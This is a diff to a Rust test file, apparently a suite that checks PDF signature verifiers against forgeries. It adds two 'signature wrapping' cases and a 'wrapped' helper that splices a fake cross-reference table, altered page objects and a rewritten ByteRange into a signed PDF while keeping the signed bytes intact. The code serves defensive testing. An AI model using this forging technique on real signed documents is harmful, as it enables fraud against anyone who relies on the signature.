@@ -1,6 +1,9 @@
 //! What the signature covers is not what the reader thinks.
 
-use crate::support::forge::{Forge, byte_range, dictionary, find, find_last, replace, with_range};
+use lopdf::xref::XrefEntry;
+use lopdf::{Document, Object, ObjectId, Writer};
+
+use crate::support::forge::{Forge, byte_range, dictionary, find, find_last, replace, stream, with_range};
 use crate::support::{CONSENT, School};
 use crate::{Attack, signed};
 
@@ -81,6 +84,24 @@ const CASES: &[Case] = &[
         let evil = b"\n999 0 obj\n(evil)\nendobj\n";
         let moved = [first, hole, evil, second].concat();
         with_range(&moved, &format!("0 {a} {} {c}", b + evil.len()))
+    }),
+    ("signature wrapping", "second part behind another table", |pdf| {
+        wrapped(pdf, |forge| {
+            let id = forge.contents();
+            forge.document.set_object(id, stream(&[], b"BT ET"));
+            vec![id]
+        })
+    }),
+    ("signature wrapping", "second part behind another page", |pdf| {
+        wrapped(pdf, |forge| {
+            let page = forge.page(0);
+            forge
+                .document
+                .get_dictionary_mut(page)
+                .unwrap()
+                .set("Rotate", 180);
+            vec![page]
+        })
     }),
     ("signature wrapping", "evil inside the hole", |pdf| {
         let (_, [_, _, b, _]) = byte_range(pdf);
@@ -212,4 +233,59 @@ fn in_update(pdf: &[u8], change: impl Fn(&[u8]) -> Vec<u8>) -> Vec<u8> {
     let end = start + find(&pdf[start..], b"\nendobj");
     forge.raw(id, &change(&pdf[start..end]));
     forge.finish()
+}
+
+/// The attack that gave the family its name: what is signed stays in two parts, byte for byte, and between them
+/// come a cross-reference where the old one is looked for, evil objects, and a copy of the signature that says
+/// where the second part has gone.
+fn wrapped(pdf: &[u8], change: impl Fn(&mut Forge) -> Vec<ObjectId>) -> Vec<u8> {
+    let mut forge = Forge::new(pdf);
+    let (_, signature) = forge.field(0);
+    let signature = signature.unwrap();
+    let mut changed = change(&mut forge);
+    changed.push(signature);
+    let (_, [_, before, after, rest]) = byte_range(pdf);
+    let table = forge.document.xref_start;
+    let previous = Forge::new(CONSENT).trailer.get(b"Prev").unwrap().clone();
+    forge.trailer.set("Prev", previous);
+
+    // The length of what comes between is needed inside it: the third time it no longer changes.
+    let mut moved = after;
+    let mut whole = Vec::new();
+    for _ in 0..3 {
+        let mut evil = vec![b' '; table - after];
+        let rows = table + 5 + 40 * (forge.document.max_id as usize) + 4096;
+        let mut bodies = Vec::new();
+        let mut places = Vec::new();
+        for id in &changed {
+            if *id == signature {
+                let entries = forge.document.get_dictionary_mut(*id).unwrap();
+                let numbers = [0, before, moved, rest].map(|number| Object::Integer(number as i64));
+                entries.set("ByteRange", numbers.to_vec());
+            }
+            places.push((*id, rows + bodies.len()));
+            bodies.extend(format!("{} 0 obj\n", id.0).bytes());
+            Writer::write_object(&mut bodies, &forge.document.objects[id]).unwrap();
+            bodies.extend(b"\nendobj\n");
+        }
+        // What the honest update brought is still there, behind.
+        let honest = Document::load_mem(pdf).unwrap().reference_table;
+        evil.extend(b"xref\n");
+        for (number, entry) in &honest.entries {
+            let at = match (places.iter().find(|(id, _)| id.0 == *number), entry) {
+                (Some((_, at)), _) => *at,
+                (None, XrefEntry::Normal { offset, .. }) if (*offset as usize) < before => *offset as usize,
+                (None, XrefEntry::Normal { offset, .. }) => *offset as usize - after + moved,
+                _ => continue,
+            };
+            evil.extend(format!("{number} 1\n{at:010} 00000 n \n").bytes());
+        }
+        evil.extend(b"trailer\n");
+        Writer::write_object(&mut evil, &Object::Dictionary(forge.trailer.clone())).unwrap();
+        evil.resize(rows - after, b' ');
+        evil.extend(bodies);
+        moved = after + evil.len();
+        whole = [&pdf[..after], &evil, &pdf[after..]].concat();
+    }
+    whole
 }
